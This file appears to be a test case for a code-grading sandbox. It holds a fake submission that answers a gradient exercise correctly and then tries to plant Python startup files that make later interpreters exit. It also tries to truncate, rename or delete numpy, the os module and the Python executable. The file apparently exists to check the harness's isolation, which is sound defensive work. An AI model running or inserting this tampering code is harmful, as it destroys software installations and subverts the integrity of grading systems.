# /// attack
# tries = "changes packages, path files, byte code and shared libraries"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import site
import sys

import numpy

places = [*site.getsitepackages(), os.path.dirname(numpy.__file__), os.path.dirname(os.__file__)]
places += [os.path.dirname(sys.executable), sys.prefix]
for place in places:
    for name in ("@MARK@.pth", "sitecustomize.py", "@MARK@.py", "__pycache__/@MARK@.pyc"):
        try:
            with open(os.path.join(place, name), "w") as file:
                file.write("import os; os._exit(7)")
            print("wrote", place, name)
        except OSError:
            continue
for path in (numpy.__file__, os.__file__, sys.executable):
    for act in (
        lambda path=path: open(path, "r+b"),
        lambda path=path: os.truncate(path, 0),
        lambda path=path: os.chmod(path, 0o777),
        lambda path=path: os.utime(path, (0, 0)),
        lambda path=path: os.rename(path, path + ".@MARK@"),
        lambda path=path: os.unlink(path),
        lambda path=path: os.setxattr(path, "user.x", b"1"),
    ):
        try:
            act()
            print("changed", path)
        except OSError:
            continue
